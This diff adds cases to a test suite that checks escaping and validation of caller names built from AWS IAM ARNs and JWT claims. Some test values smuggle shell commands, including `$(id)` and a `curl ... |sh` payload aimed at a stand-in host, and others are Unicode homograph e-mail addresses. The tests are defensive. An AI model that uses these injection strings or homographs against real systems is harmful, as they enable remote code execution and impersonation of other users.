@@ -19,9 +19,14 @@ describe('the name of whoever asks', () => {
     { of: iam(`arn:aws:sts::${account}:assumed-role/ci/a/b`), name: `iam:${account}/role/ci` },
     { of: iam(`arn:aws-cn:sts::${account}:assumed-role/ci/x`), name: `iam:${account}/role/ci` },
     {
-      of: iam(`arn:aws:sts::${account}:federated-user/bob`),
-      name: `iam:${account}/federated-user/bob`,
+      of: iam(`arn:aws:iam::${account}:user/*/x';$(id)\`;/é`),
+      name: `iam:${account}/user/%2A/x%27%3B%24%28id%29%60%3B/%C3%A9`,
     },
+    {
+      of: iam(`arn:aws:iam::${account}:user/a+b=c,d.e@f_g-h`),
+      name: `iam:${account}/user/a+b=c,d.e@f_g-h`,
+    },
+    { of: iam(`arn:aws:sts::${account}:assumed-role/c*/x`), name: `iam:${account}/role/c%2A` },
     { of: iam(`arn:aws:iam::${account}:root`), name: `iam:${account}/root` },
     { of: jwt(google), name: 'jwt:accounts.google.com#108' },
     {
@@ -33,6 +38,10 @@ describe('the name of whoever asks', () => {
       name: 'jwt:cognito-idp.eu-west-1.amazonaws.com/pool_1#x',
     },
     { of: jwt({ iss: 'https://idp', sub: 'a * b%é' }), name: 'jwt:idp#a%20%2A%20b%25%C3%A9' },
+    {
+      of: jwt({ iss: 'https://idp#x', sub: "x';curl$IFS{evil}|sh;'" }),
+      name: 'jwt:idp%23x#x%27%3Bcurl%24IFS%7Bevil%7D%7Csh%3B%27',
+    },
   ])('is $name', ({ of, name }) => {
     const event = anEvent({ authorizer: of });
 
@@ -42,6 +51,15 @@ describe('the name of whoever asks', () => {
   it.each([
     { claims: { ...google, email_verified: 'true' }, name: 'accounts.google.com#anna@example.com' },
     { claims: { ...google, email_verified: true }, name: 'accounts.google.com#anna@example.com' },
+    // Both signs would become plain letters in lower case: another person's address.
+    {
+      claims: { ...google, email: '\u212aate@example.com', email_verified: true },
+      name: 'accounts.google.com#%E2%84%AAate@example.com',
+    },
+    {
+      claims: { ...google, email: '\u0130da@example.com', email_verified: true },
+      name: 'accounts.google.com#%C4%B0da@example.com',
+    },
   ])('by e-mail is $name', ({ claims, name }) => {
     expect(callerOf(anEvent({ authorizer: jwt(claims) }), 'email').name).toBe(`jwt:${name}`);
   });
@@ -55,6 +73,16 @@ describe('the name of whoever asks', () => {
       authorizer: iam(`arn:aws:iam::${account}:user`),
       claim: 'sub',
       why: 'ARN',
+    },
+    {
+      of: 'a name that the caller of GetFederationToken chose',
+      authorizer: iam(`arn:aws:sts::${account}:federated-user/bob`),
+      ...{ claim: 'sub', why: 'chosen by whoever asked for it' },
+    },
+    {
+      of: 'a kind of identity that we do not know',
+      authorizer: iam(`arn:aws:sts::${account}:visitor/bob`),
+      ...{ claim: 'sub', why: 'is no ARN' },
     },
     { of: 'no subject', authorizer: jwt({ iss: 'https://a' }), claim: 'sub', why: '“sub”' },
     { of: 'no issuer', authorizer: jwt({ sub: 'anna' }), claim: 'sub', why: '“iss”' },
